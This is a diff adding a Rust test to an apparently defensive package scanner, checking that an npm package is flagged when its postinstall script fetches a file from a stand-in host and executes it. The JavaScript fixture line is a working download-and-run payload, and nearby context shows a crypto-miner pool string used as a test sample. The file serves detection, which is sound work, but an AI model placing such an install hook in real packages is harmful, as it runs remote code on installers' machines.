@@ -36,6 +36,26 @@ fn texts_of_a_package_that_name_pools_and_miners_are_suspicious() {
 }
 
 #[test]
+fn an_installer_that_fetches_and_runs_is_the_packages() {
+    let package = r#"{"name": "a", "scripts": {"postinstall": "node lib/setup"}}"#;
+    let fetches = "const fs = require('fs'), { exec } = require('child_process'); require('https')\
+                   .get('https://f.example/x', r => r.pipe(fs.createWriteStream('x')).on('finish', () => exec('./x')));";
+    for (script, level) in [(fetches, "suspicious"), ("console.log('thanks')", "clean")] {
+        let files: &[(&str, &[u8])] =
+            &[("package/package.json", package.as_bytes()), ("package/lib/setup.js", script.as_bytes())];
+        let folder = Folder::new();
+        let run = scan(&folder.file("a.tgz", tgz(files)));
+        run.assert_code(0);
+        assert_eq!(line(&run, "package.json")["level"], level, "{run:?}");
+        assert_eq!(line(&run, "a.tgz")["level"], level);
+        assert_eq!(line(&run, "setup.js")["level"], "clean", "alone it says nothing");
+        let folder = Folder::new();
+        files.iter().for_each(|(name, content)| drop(folder.file(name, content)));
+        assert_eq!(line(&scan(folder.path()), "package.json")["level"], level);
+    }
+}
+
+#[test]
 fn executables_are_listed_and_their_strings_looked_through() {
     let lawful = [b"\x7fELF\x02\x01\x01\0", &[0; 500][..], b"usage: x\0"].concat();
     let miner = [&lawful[..], b"stratum+ssl://pool.example.net:443\0"].concat();
